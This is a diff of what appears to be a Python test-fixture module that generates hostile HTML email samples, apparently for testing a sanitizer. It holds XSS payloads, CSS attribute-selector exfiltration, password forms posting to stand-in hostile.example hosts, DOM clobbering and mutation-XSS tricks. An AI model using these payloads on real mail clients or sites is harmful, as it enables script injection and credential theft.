@@ -1,5 +1,5 @@
-# ruff: noqa: E501 (samples stand on one line, as they are known)
-"""Messages of somebody who means harm. Every address in them has a host name of its own under `hostile.example`."""
+# ruff: noqa: E501 (samples are on one line, as published)
+"""Hostile messages. Every address in them has its own host name below `hostile.example`."""
 
 from itertools import count
 
@@ -7,7 +7,7 @@ _hosts = count(1)
 
 
 def far(kind: str = "x", scheme: str = "http") -> str:
-    """An address that nobody has asked for before."""
+    """Return an address that was not used before."""
     return f"{scheme}://{kind}-{next(_hosts)}.hostile.example/it.png"
 
 
@@ -22,7 +22,7 @@ _RUN = "window.top.pwned=window.pwned=1;localStorage.x=1;alert(1)"
 
 
 def scripts() -> str:
-    """Everything that runs."""
+    """Return markup with every way to run a script."""
     events = "".join(f'<div {name}="{_RUN}" tabindex=0 autofocus>{name}</div>' for name in _EVENTS.split())
     return f"""<script>{_RUN}</script><script src="{far("script")}"></script><script type=module src="{far()}"></script>
 <img src=x onerror="{_RUN}"><body onload="{_RUN}"><svg onload="{_RUN}"><style><img src=x onerror="{_RUN}"></style></svg>
@@ -34,7 +34,7 @@ def scripts() -> str:
 
 
 def loads() -> str:
-    """Everything that fetches, by an attribute."""
+    """Return markup with every attribute that loads something."""
     links = "".join(f'<link rel="{one}" href="{far(one)}" as=image>' for one in _RELATIONS.split())
     secure = "".join(f'<link rel="{one}" href="{far(one, "https")}">' for one in ("preconnect", "dns-prefetch"))
     return f"""<head><base href="{far("base")}"><meta http-equiv=refresh content="0;url={far("refresh")}">
@@ -56,7 +56,7 @@ def loads() -> str:
 
 
 def styles() -> str:
-    """Everything that fetches, covers or moves, by a style."""
+    """Return markup with every style that loads, covers or moves something."""
     inline = (
         f"background:url({far()})",
         f"background-image:image-set(url({far()}) 1x)",
@@ -98,7 +98,7 @@ input[value^=a] {{ background: url({far()}) }} html {{ display: none !important 
 
 
 def foreign() -> str:
-    """SVG and MathML."""
+    """Return hostile SVG and MathML."""
     return f"""<svg width=300 height=300><image href="{far()}" xlink:href="{far()}"/><use href="{far()}#a"/>
 <use xlink:href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href='{far()}'/></svg>#x"/>
 <feImage href="{far()}"/><script href="{far()}">{_RUN}</script><foreignObject><img src="{far()}"><iframe src="{far()}">
@@ -111,7 +111,7 @@ style="fill:url({far()}#g)"/><style>@import "{far()}";</style></svg>
 
 
 def forms() -> str:
-    """What asks, opens, focuses, and what takes names of the page."""
+    """Return markup that asks, opens, takes the focus, or takes names of the page."""
     names = "body head cookie forms location getElementById querySelector attributes childNodes nodeName ownerDocument"
     taken = "".join(f'<img name="{one}" id="{one}"><a id="{one}" name="{one}"></a>' for one in names.split())
     return f"""<form action="{far("form")}" id=f><input name=password type=password autofocus value=a>
@@ -127,13 +127,13 @@ def forms() -> str:
 
 
 def large() -> str:
-    """Two megabytes of markup, deep and wide."""
+    """Return two megabytes of markup, deep and wide."""
     row = '<tr><td style="padding:4px" class=a onclick="x()"><b>{}</b></td><td>cell<img src="{}"></td></tr>'
     wide = "".join(row.format("many words " * 50, f"http://wide-{one}.hostile.example/") for one in range(3_000))
     return f"<table>{wide}</table>{'<div>' * 5_000}deep{'</div>' * 5_000}"
 
 
-#: Samples that are read in one way and, written and read again, in another (mutation XSS), and other known tricks.
+#: Samples that are parsed differently after serialization (mutation XSS), and other known tricks.
 MUTATIONS = tuple(
     one.replace("RUN", _RUN)
     for one in (
@@ -176,6 +176,6 @@ MUTATIONS = tuple(
 
 
 def mails() -> dict[str, str]:
-    """Subject and HTML of each."""
+    """Return the HTML of each message by its subject."""
     makers = (scripts, loads, styles, foreign, forms, large)
     return {one.__name__: f"<p>Canary before.</p>{one()}" for one in makers}
